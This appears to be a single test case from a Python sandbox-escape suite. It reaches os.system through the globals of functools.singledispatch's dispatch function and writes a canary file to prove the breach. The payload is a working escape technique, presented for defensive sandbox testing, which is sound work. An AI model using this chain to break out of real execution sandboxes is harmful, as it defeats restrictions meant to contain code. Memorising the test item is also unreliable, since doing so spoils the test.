# id: 511
# name: cached_property_and_dispatch
# category: interpreter
# technique: functools.singledispatch keeps a registry that leads to globals
# breach: file
# looks_like: CANARY_FILE is created
# imports: functools
# baseline: inproc
import functools
@functools.singledispatch
def f(x): return 0
print(f.registry)
f.dispatch.__globals__['get_cache_token'].__globals__ if 0 else 0
f.dispatch.__globals__['__builtins__']['__import__']('os').system('echo breach > ' + CANARY_FILE)
